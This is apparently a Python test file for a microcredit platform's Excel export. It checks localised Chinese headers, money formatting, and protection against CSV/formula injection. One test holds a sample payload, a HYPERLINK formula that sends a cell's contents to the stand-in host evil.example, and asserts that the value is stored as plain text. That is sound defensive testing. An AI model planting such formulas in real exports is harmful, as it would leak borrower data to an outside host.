"""Excel exports: localised headers, and text that stays text."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from microcredit.lending.money import Money
from microcredit.platform.export import Column, to_xlsx

COLUMNS = [Column("name", "姓名", "Name"), Column("employer", "工作单位", "Employer")]


def test_text_that_looks_like_a_formula_is_exported_as_text() -> None:
    # Borrowers type their own employer, address, name: openpyxl wrote "=..." as a live formula,
    # which staff opening the export would run (CSV/formula injection, OWASP).
    payload = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
    data = to_xlsx(title="borrowers", columns=COLUMNS, rows=[{"name": "张三", "employer": payload}], language="zh-CN")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws is not None
    assert [c.value for c in ws[1]] == ["姓名", "工作单位"]
    cell = ws["B2"]
    assert (cell.value, cell.data_type) == (payload, "s")


def test_money_is_exported_as_a_number_in_the_money_format() -> None:
    columns = [Column("name", "姓名", "Name"), Column("monthly_income", "月收入", "Monthly income", money=True)]
    rows = [{"name": "张三", "monthly_income": Money.parse("8800.50", "CNY")}, {"name": "李四", "monthly_income": None}]
    ws = load_workbook(io.BytesIO(to_xlsx(title="borrowers", columns=columns, rows=rows, language="en"))).active
    assert ws is not None
    cell = ws["B2"]
    assert (cell.value, cell.data_type, cell.number_format) == (8800.5, "n", "#,##0.00")
    assert ws["B3"].value is None
